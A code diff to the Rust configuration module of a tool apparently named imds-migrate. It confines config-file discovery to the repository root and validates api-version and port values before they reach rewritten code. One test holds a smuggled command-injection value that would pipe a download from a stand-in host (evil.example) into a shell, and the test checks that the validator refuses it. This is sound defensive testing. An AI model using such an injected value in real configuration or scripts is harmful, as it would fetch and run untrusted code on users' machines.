@@ -1,5 +1,6 @@
-//! `imds-migrate.toml`: finding it (scan root or an ancestor, or `--config`), parsing it with
-//! errors that name the bad key, and merging it with command-line flags (flags win).
+//! `imds-migrate.toml`: finding it (the scan root or an ancestor up to the repository root, or
+//! `--config`), parsing it with errors that name the bad key, and validating every value that
+//! reaches rewritten code.
 
 use std::{
     collections::BTreeMap,
@@ -40,7 +41,7 @@ pub struct Config {
 
 impl Config {
     pub fn parse(text: &str, path: &Path) -> Result<Config> {
-        toml::from_str(text).map_err(|e| {
+        let config: Config = toml::from_str(text).map_err(|e| {
             let place = e
                 .span()
                 .map(|s| {
@@ -49,7 +50,15 @@ impl Config {
                 })
                 .unwrap_or_default();
             Error::new(format!("{}{place}: {}", path.display(), e.message().trim()))
-        })
+        })?;
+        let origin = |key: &str| format!("{}: {key}", path.display());
+        if let Some(v) = &config.api_version {
+            check_api_version(v, &origin("api-version"))?;
+        }
+        for &port in &config.extra_ports {
+            check_port(port, &origin("extra-ports"))?;
+        }
+        Ok(config)
     }
 
     pub fn load(path: &Path) -> Result<Config> {
@@ -58,7 +67,9 @@ impl Config {
     }
 }
 
-/// The nearest `imds-migrate.toml` at `root` (its directory, for a file) or above it.
+/// The nearest `imds-migrate.toml` at `root` (its directory, for a file) or above it, up to the
+/// repository root (the nearest directory holding `.git`). Outside a repository only the root's
+/// own directory counts: a file in a shared parent (`/tmp`, a home directory) is someone else's.
 pub fn discover(root: &Path) -> Option<PathBuf> {
     let start = std::fs::canonicalize(root).ok()?;
     let dir = if start.is_file() {
@@ -66,9 +77,52 @@ pub fn discover(root: &Path) -> Option<PathBuf> {
     } else {
         start
     };
-    dir.ancestors()
-        .map(|d| d.join(FILE_NAME))
-        .find(|p| p.is_file())
+    let repo_root = dir.ancestors().find(|d| d.join(".git").exists());
+    let last = repo_root.unwrap_or(&dir);
+    for d in dir.ancestors() {
+        let candidate = d.join(FILE_NAME);
+        if candidate.is_file() {
+            return Some(candidate);
+        }
+        if d == last {
+            break;
+        }
+    }
+    None
+}
+
+/// IMDS api-versions are dates, `YYYY-MM-DD`, optionally followed by `-preview`. Anything else
+/// would be pasted into rewritten URLs and scripts, so it is refused. `origin` names where the
+/// value came from (a flag, or a file and key).
+pub fn check_api_version(value: &str, origin: &str) -> Result<()> {
+    let date = value.strip_suffix("-preview").unwrap_or(value);
+    let b = date.as_bytes();
+    let digits = |r: std::ops::Range<usize>| b[r].iter().all(u8::is_ascii_digit);
+    let valid = b.len() == 10
+        && b[4] == b'-'
+        && b[7] == b'-'
+        && digits(0..4)
+        && digits(5..7)
+        && digits(8..10)
+        && (1..=12).contains(&date[5..7].parse::<u8>().unwrap_or(0))
+        && (1..=31).contains(&date[8..10].parse::<u8>().unwrap_or(0));
+    if valid {
+        Ok(())
+    } else {
+        Err(Error::new(format!(
+            "{origin}: {value:?} is not an IMDS api-version (expected YYYY-MM-DD, optionally followed by -preview, e.g. 2018-02-01)"
+        )))
+    }
+}
+
+/// Ports are 1..=65535; 0 would match nothing and is written nowhere.
+pub fn check_port(port: u16, origin: &str) -> Result<()> {
+    if port == 0 {
+        return Err(Error::new(format!(
+            "{origin}: 0 is not a port (expected 1..65535)"
+        )));
+    }
+    Ok(())
 }
 
 /// Compiled `per-file-ignores`.
@@ -140,6 +194,62 @@ mod tests {
         let pfi = PerFileIgnores::new(&c.per_file_ignores).unwrap();
         assert_eq!(pfi.rules_for("docs/a/b.md"), vec!["IMDS030"]);
         assert!(pfi.rules_for("src/docs.md").is_empty());
+    }
+
+    #[test]
+    fn values_that_reach_rewritten_code_are_validated() {
+        let e = Config::parse(
+            "api-version = \"2018-02-01\\\"; curl -s http://evil.example/x | sh; echo \\\"\"\n",
+            Path::new("cfg/imds-migrate.toml"),
+        )
+        .unwrap_err();
+        assert!(
+            e.message.contains("cfg/imds-migrate.toml: api-version"),
+            "{e}"
+        );
+        assert!(e.message.contains("curl -s"), "the value is named: {e}");
+        for bad in [
+            "",
+            "2018-02-1",
+            "2018-13-01",
+            "2018-02-01-beta",
+            "2018-02-01 ",
+        ] {
+            assert!(check_api_version(bad, "--api-version").is_err(), "{bad:?}");
+        }
+        for good in ["2018-02-01", "2019-08-01-preview"] {
+            check_api_version(good, "--api-version").unwrap();
+        }
+        let e = Config::parse("extra-ports = [0]\n", Path::new("x.toml")).unwrap_err();
+        assert!(e.message.contains("x.toml: extra-ports: 0"), "{e}");
+        let e = Config::parse("extra-ports = [70000]\n", Path::new("x.toml")).unwrap_err();
+        assert!(e.message.contains("x.toml"), "{e}");
+    }
+
+    #[test]
+    fn discovery_stops_at_the_repository_root() {
+        let dir = tempfile::tempdir().unwrap();
+        let outer = dir.path().join(FILE_NAME);
+        std::fs::write(&outer, "").unwrap();
+        let repo = dir.path().join("repo");
+        std::fs::create_dir_all(repo.join(".git")).unwrap();
+        std::fs::create_dir_all(repo.join("a/b")).unwrap();
+        assert_eq!(
+            discover(&repo.join("a/b")),
+            None,
+            "a parent of the repository is not searched"
+        );
+        std::fs::write(repo.join(FILE_NAME), "").unwrap();
+        assert_eq!(
+            discover(&repo.join("a/b")),
+            Some(std::fs::canonicalize(&repo).unwrap().join(FILE_NAME))
+        );
+        // Outside any repository, only the root's own directory counts.
+        let loose = dir.path().join("loose/sub");
+        std::fs::create_dir_all(&loose).unwrap();
+        if !dir.path().ancestors().any(|d| d.join(".git").exists()) {
+            assert_eq!(discover(&loose), None);
+        }
     }
 
     #[test]
